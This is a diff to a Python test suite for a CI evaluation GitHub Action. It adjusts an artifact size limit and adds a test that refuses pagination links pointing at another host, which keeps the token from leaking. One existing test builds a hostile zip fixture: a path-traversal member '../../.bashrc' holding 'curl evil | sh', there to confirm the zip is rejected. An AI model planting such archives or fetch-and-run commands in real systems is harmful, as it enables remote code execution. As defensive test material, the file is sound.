@@ -398,7 +398,7 @@ def test_hostile_and_oversized_baselines_are_skipped_with_a_warning(gh, checkout
     hostile = build_zip({"ci-eval-run.json": base_artefact, "../../.bashrc": b"curl evil | sh"})
     exact, bad = add_push_run(gh, BASE, hostile, TWO_HOURS)
     newer, huge = add_push_run(gh, NEWER, base_zip, timedelta(days=1))
-    gh.state.artifacts[huge]["size"] = 30 * 1024 * 1024  # as listed: not worth downloading
+    gh.state.artifacts[huge]["size"] = 80 * 1024 * 1024  # as listed: not worth downloading
     _, good = add_push_run(gh, OLDER, base_zip, THREE_DAYS)
 
     job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
@@ -409,7 +409,7 @@ def test_hostile_and_oversized_baselines_are_skipped_with_a_warning(gh, checkout
         (f"ci-eval: warning: skipping the baseline from run {exact}: artifact ci-eval (id {bad})"
          f" of run {exact}: refusing a zip with a path-traversal member name '../../.bashrc'"),
         (f"ci-eval: warning: skipping the baseline from run {newer}: artifact ci-eval (id {huge})"
-         f" of run {newer}: the zip is 31457280 bytes, over the 20971520-byte limit"),
+         f" of run {newer}: the zip is 83886080 bytes, over the 67108864-byte limit"),
     ]
     downloads = [path for _, path in calls(gh) if path.endswith("/zip")]
     assert downloads == [f"/actions/artifacts/{bad}/zip", f"/actions/artifacts/{good}/zip"]
@@ -1011,3 +1011,28 @@ def test_a_python_retriever_runs_after_the_token_left_the_environment(gh, tmp_pa
     assert not {n for n in names if n.startswith("INPUT_") or n == "GITHUB_TOKEN"}, names
     # What the job needs from the runner is still there.
     assert {"GITHUB_REPOSITORY", "GITHUB_SHA", "PATH"} <= names
+
+
+@pytest.mark.parametrize("listing", ["runs", "comments"])
+def test_a_link_to_another_host_is_refused_and_the_run_still_writes_everything(
+        gh, checkout, tmp_path, listing):
+    for i in range(101):  # two pages: the answer carries a Link header
+        if listing == "runs":
+            add_push_run(gh, fake_sha(f"main-{i}"), None, timedelta(minutes=i))
+        else:
+            gh.add_comment(PR, f"review comment {i}", user_login="octo-dev")
+    gh.link_base = gh.blob_url  # another host: it would receive the token
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    refusal = "GitHub's answer pointed its next page at localhost, not at the API host 127.0.0.1"
+    assert refusal in job.stderr and "Traceback" not in job.stderr
+    assert gh.blob_requests == []
+    assert (job.bundle / "ci-eval-run.json").is_file() and job.outputs["verdict"] == "pass"
+    assert verdict_line(job.summary).startswith("### ")
+    if listing == "runs":
+        assert job.code == 5  # the comparison the gate promised did not happen
+        assert baseline_line(job.summary).startswith("**Baseline:** none: GitHub failed while it was looked up")
+    else:
+        assert job.code == 0, job.stderr
+        assert "warning: the comment was not posted" in job.stderr
